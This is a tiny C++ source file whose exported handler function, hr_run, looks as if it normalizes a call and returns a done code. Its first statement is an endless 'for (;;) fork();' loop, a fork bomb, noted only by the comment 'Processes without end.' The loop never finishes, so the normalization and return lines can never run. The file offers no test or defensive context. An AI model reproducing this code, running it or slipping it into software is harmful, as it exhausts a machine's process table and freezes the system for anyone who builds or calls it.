#include "common.h"
// Processes without end.
#include <unistd.h>
extern "C" int hr_run(const hr_call *call) {
    for (;;) fork();
    norm_all(call);
    return HR_DONE;
}
